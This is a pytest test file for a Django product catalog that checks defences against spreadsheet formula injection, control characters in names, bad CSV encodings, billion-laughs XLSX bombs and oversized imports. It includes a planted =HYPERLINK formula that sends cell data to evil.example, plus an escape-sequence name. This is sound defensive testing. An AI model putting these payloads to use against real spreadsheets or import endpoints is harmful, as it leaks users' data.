"""Issue #17 for the catalog: exports never carry a live formula nor a character that breaks
XLSX; names refuse control characters on every way in (API, admin form, import); imports detect
the CSV's encoding, refuse hostile XLSX files and cap size and rows."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from callpulse.catalog.models import Product
from callpulse.catalog.services import catalog_import_products
from callpulse.catalog.tests.factories import make_catalog
from callpulse.catalog.transfer import (
    UnreadableFile,
    products_table,
    read_table,
    table_bytes,
)
from callpulse.core.tests.hostile_files import billion_laughs_xlsx, xlsx_bytes

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
IMPORT_URL = "admin:catalog_product_import"


@pytest.fixture
def editor(make_user):
    return make_user("head_of_sales", is_staff=True)


@pytest.fixture
def catalog():
    return make_catalog()


def _xlsx_cell(content: bytes, sku: str, column: int = 2):
    sheet = load_workbook(io.BytesIO(content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == sku)
    return row[column - 1]


# --- exports ------------------------------------------------------------------------------------


def test_a_planted_formula_is_exported_as_quoted_text(catalog):
    Product.objects.filter(sku="P1").update(name=PLANTED, promotion_note="-1 day, @team")
    csv_text = table_bytes(products_table(), "csv").decode("utf-8-sig")
    line = next(line for line in csv_text.splitlines() if line.startswith("P1;"))
    assert line.split(";")[1].strip('"').startswith("'=HYPERLINK")
    assert "'-1 day, @team" in line

    content = table_bytes(products_table(), "xlsx")
    cell = _xlsx_cell(content, "P1")
    assert cell.data_type == "s" and cell.value == "'" + PLANTED
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_names_round_trip_without_growing_quotes(make_user, catalog, fmt):
    editor = make_user("head_of_sales")
    names = {"P1": PLANTED, "P2": "'=already quoted", "P3": "'plain quote", "P4": "-минус"}
    for sku, name in names.items():
        Product.objects.filter(sku=sku).update(name=name)
    for _round in range(3):
        exported = table_bytes(products_table(), fmt)
        report = catalog_import_products(actor=editor, rows=read_table(io.BytesIO(exported)))
        assert (report.updated, report.rejected) == (0, 0), [str(r) for r in report.rejected_rows]
    stored = dict(Product.objects.filter(sku__in=names).values_list("sku", "name"))
    assert stored == names


def test_a_users_own_quoted_cell_imports_as_the_text_after_the_quote(make_user, catalog):
    editor = make_user("head_of_sales")
    table = read_table(io.BytesIO(b"sku;name\nP1;'=1+1\nP2;'hello\n"), fmt="csv")
    catalog_import_products(actor=editor, rows=table)
    assert Product.objects.get(sku="P1").name == "=1+1"
    assert Product.objects.get(sku="P2").name == "'hello"


def test_a_legacy_name_with_control_characters_still_exports(catalog):
    # Written straight to the database, as rows stored before the validator existed (no NUL:
    # PostgreSQL refuses it in text, so no legacy row can hold one).
    Product.objects.filter(sku="P1").update(name="Молоко\x07\x1b 3,2%\x7f")
    content = table_bytes(products_table(), "xlsx")
    assert _xlsx_cell(content, "P1").value == "Молоко\ufffd\ufffd 3,2%\ufffd"
    assert "Молоко\x07" in table_bytes(products_table(), "csv").decode("utf-8-sig")


# --- control characters on the way in -----------------------------------------------------------


def test_the_import_rejects_a_name_with_a_control_character(make_user, catalog):
    editor = make_user("head_of_sales")
    table = read_table(
        io.BytesIO('sku;name;promotion_note\nP1;Бип\x07;\nP2;Ok;"две\nстроки"\n'.encode()),
        fmt="csv",
    )
    report = catalog_import_products(actor=editor, rows=table)
    assert [str(r) for r in report.rejected_rows] == [
        "row 2, name: contains the control character U+0007: remove it"
    ]
    assert Product.objects.get(sku="P1").name == "Товар 1"
    assert Product.objects.get(sku="P2").promotion_note == "две\nстроки"  # a note may have lines


def test_the_api_refuses_a_product_name_with_a_control_character(api_as, make_user, catalog):
    api = api_as(make_user("head_of_sales"))
    product = Product.objects.get(sku="P1")
    response = api.patch(f"/api/v1/products/{product.pk}/", {"name": "Бип\x07"}, format="json")
    assert response.status_code == 400
    assert "name" in response.json() and "U+0007" in str(response.json())
    response = api.patch(f"/api/v1/products/{product.pk}/", {"name": "Бип"}, format="json")
    assert response.status_code == 200
    assert Product.objects.get(sku="P1").name == "Бип"


def test_the_admin_form_refuses_a_product_name_with_a_control_character(admin_client, catalog):
    product = Product.objects.get(sku="P1")
    url = reverse("admin:catalog_product_change", args=[product.pk])
    form = {
        "sku": "P1",
        "name": "Бип\x1b[31m",
        "unit": product.unit,
        "pack_size": "1",
        "is_active": "on",
        "documents-TOTAL_FORMS": "0",
        "documents-INITIAL_FORMS": "0",
    }
    response = admin_client.post(url, form)
    assert response.status_code == 200  # the form again, with the error
    assert "U+001B" in response.content.decode()
    assert Product.objects.get(sku="P1").name == "Товар 1"


# --- imports: encoding, hostile files, limits ---------------------------------------------------


def test_a_windows_1251_file_is_decoded_right(make_user, catalog):
    data = "sku;name\nP1;Молоко «Простоквашино»\nP2;ХЛЕБ\n".encode("cp1251")
    table = read_table(io.BytesIO(data), fmt="csv")
    assert [row.values["name"] for row in table.rows] == ["Молоко «Простоквашино»", "ХЛЕБ"]


def test_a_latin_1_file_is_decoded_right():
    table = read_table(io.BytesIO("sku;name\nP1;Café Müller\n".encode("latin-1")), fmt="csv")
    assert table.rows[0].values["name"] == "Café Müller"


def test_a_file_of_unsure_encoding_is_refused():
    with pytest.raises(UnreadableFile, match="CSV UTF-8"):
        read_table(io.BytesIO(b"sku;name\n" + bytes(range(0x80, 0x100)) * 2), fmt="csv")


def test_the_admin_page_refuses_a_billion_laughs_xlsx(client, editor, catalog):
    client.force_login(editor)
    upload = SimpleUploadedFile("catalog.xlsx", billion_laughs_xlsx(["sku", "name"]))
    response = client.post(reverse(IMPORT_URL), {"kind": "products", "file": upload})
    assert response.status_code == 200
    assert "declares XML entities" in response.content.decode()


def test_the_admin_page_refuses_a_file_over_the_size_limit(client, editor, catalog, settings):
    settings.CALLPULSE_IMPORT_MAX_BYTES = 1024
    client.force_login(editor)
    upload = SimpleUploadedFile("catalog.csv", b"sku;name\n" + b"P1;x\n" * 300)
    response = client.post(reverse(IMPORT_URL), {"kind": "products", "file": upload})
    assert response.status_code == 200
    assert "an import takes at most 1.0" in response.content.decode()
    assert Product.objects.get(sku="P1").name == "Товар 1"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_rows_past_the_limit_are_refused_while_streaming(settings, fmt):
    settings.CALLPULSE_IMPORT_MAX_ROWS = 3
    rows = [["sku", "name"], *([f"S{n}", "x"] for n in range(4))]
    ok = rows[:4]
    if fmt == "csv":
        data = "\n".join(";".join(row) for row in rows).encode()
        fine = "\n".join(";".join(row) for row in ok).encode()
    else:
        data, fine = xlsx_bytes(rows), xlsx_bytes(ok)
    assert len(read_table(io.BytesIO(fine), fmt=fmt).rows) == 3
    with pytest.raises(UnreadableFile, match="more than 3 rows"):
        read_table(io.BytesIO(data), fmt=fmt)


def test_the_import_command_refuses_a_file_over_the_size_limit(tmp_path, settings, catalog, editor):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    settings.CALLPULSE_IMPORT_MAX_BYTES = 10
    path = tmp_path / "p.csv"
    path.write_bytes(b"sku;name\nP1;x\n")
    with pytest.raises(CommandError, match="at most 10"):
        call_command("catalog_import", "products", str(path), "--as", editor.username)
